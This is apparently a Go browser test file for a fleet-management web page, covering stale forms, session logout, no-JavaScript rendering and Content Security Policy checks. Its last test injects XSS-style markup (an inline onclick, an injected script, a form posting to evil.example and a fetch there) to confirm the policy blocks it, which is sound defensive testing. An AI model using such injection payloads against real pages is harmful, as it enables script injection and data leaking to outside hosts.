package browser_test

import (
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"github.com/poolswap/poolswap/fleet"
	"github.com/poolswap/poolswap/reload/browser"
)

// controller returns a Controller of a name, for another person.
func (d *daemon) controller(name string) *fleet.Controller {
	d.t.Helper()
	c, err := fleet.NewController(d.dial("publisher"), name, "bob")
	if err != nil {
		d.t.Fatal(err)
	}
	return c
}

// What a person types survives that the plan changes, and is not done to the new
// plan.
func TestAFormThatIsOpenStaysOneOfItsPlan(t *testing.T) {
	d := newDaemon(t)
	d.publish(d.publisher("asn"), "one", "the first")
	bob, g := d.controller("asn"), newGuest(t, d)
	g.Do(t, chromedp.Navigate(d.url+"/fleet?name=asn"))
	g.logIn("alice") // leads back to the page
	g.shows("This page follows by itself.")

	g.opens("pause")
	g.Do(t, chromedp.SendKeys(element("pause", "[name=why]"), "maintenance "))
	if _, err := bob.Pause(t.Context(), "bob was faster"); err != nil {
		t.Fatal(err)
	}
	g.shows("The plan has changed since you opened this form, which would be refused now.")
	g.steers("pause", "tonight")
	g.shows("The plan was changed meanwhile, so nothing was done.")
	g.shows("Plan 2 is by bob, who paused.")
	if why := browser.Run[string](t, g.Tab, string(element("resume", "[name=why]"))+".value"); why != "maintenance tonight" {
		t.Errorf("the reason is %q now", why)
	}

	g.shows("This page follows by itself.")
	g.opens("resume")
	if _, err := bob.Resume(t.Context(), "done"); err != nil {
		t.Fatal(err)
	}
	g.shows("The plan has changed since you opened this form")
	g.opens("resume") // closes it
	g.Do(t, chromedp.WaitVisible(css("summary:has(+ [data-do=pause])")))
	if text := browser.Run[string](t, g.Tab, "document.body.innerText"); strings.Contains(text, "since you opened this form") {
		t.Errorf("the new form is called old:\n%s", text)
	}
	g.opens("pause")
	g.steers("pause", "now")
	g.shows("Plan 4: alice paused")
	g.quiet("409 (Conflict)")
}

func TestThePageThatFollowsSaysThatTheSessionHasEnded(t *testing.T) {
	d := newDaemon(t)
	d.publish(d.publisher("asn"), "one", "the first")
	g := newGuest(t, d)
	g.Do(t, chromedp.Navigate(d.url+"/fleet?name=asn"))
	g.logIn("alice")
	g.shows("This page follows by itself.")
	other := newGuest(t, d)
	other.Do(t, chromedp.Navigate(d.url))
	other.loads(chromedp.Click(css("header button")))
	g.shows("You are logged out, so this page does not follow any more.")
	g.quiet("")
}

func TestThePageIsWholeWithoutJavaScript(t *testing.T) {
	d := newDaemon(t)
	one := d.publish(d.publisher("asn"), "one", "the first")
	g := newGuest(t, d)
	if _, err := chromedp.Call(g.Ctx, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true}); err != nil {
		t.Fatal(err)
	}
	g.Do(t, chromedp.Navigate(d.url+"/fleet?name=asn"))
	g.logIn("alice")
	g.shows("This page shows how things were when it was loaded.")
	g.shows("Replicas are to run " + one)
	g.opens("pause")
	g.steers("pause", "no scripts")
	g.shows("alice paused")
	g.shows("no scripts")
	g.quiet("")
}

// What a text could make the page load or run is stopped by the policy.
func TestThePolicyStopsWhatMarkupWouldDo(t *testing.T) {
	d := newDaemon(t)
	d.publish(d.publisher("asn"), "one", "the first")
	g := newGuest(t, d)
	g.Do(t, chromedp.Navigate(d.url+"/fleet?name=asn"))
	g.logIn("alice")
	browser.Run[bool](t, g.Tab, `(() => {
		document.body.insertAdjacentHTML("beforeend", '<img src="/stolen"><p id="trap" onclick="alert(1)">trap</p><form id="leak" action="https://evil.example/" method="post"></form>')
		document.getElementById("trap").click()
		document.getElementById("leak").submit()
		const script = document.createElement("script")
		script.textContent = "alert(2)"
		document.body.append(script)
		return true
	})()`)
	if fetched := browser.Run[bool](t, g.Tab, `fetch("https://evil.example/").then(() => true, () => false)`, chromedp.EvalAwaitPromise); fetched {
		t.Error("the page can fetch from elsewhere")
	}
	trouble := ""
	for _, directive := range []string{"img-src", "script-src", "connect-src", "form-action"} {
		for end := time.Now().Add(hang); !strings.Contains(trouble, directive); time.Sleep(20 * time.Millisecond) {
			if time.Now().After(end) {
				t.Fatalf("the console says nothing of %s:\n%s", directive, trouble)
			}
			trouble = strings.Join(g.Troubles(), "\n")
		}
	}
	if strings.Contains(trouble, "alert: ") {
		t.Errorf("a script ran:\n%s", trouble)
	}
}
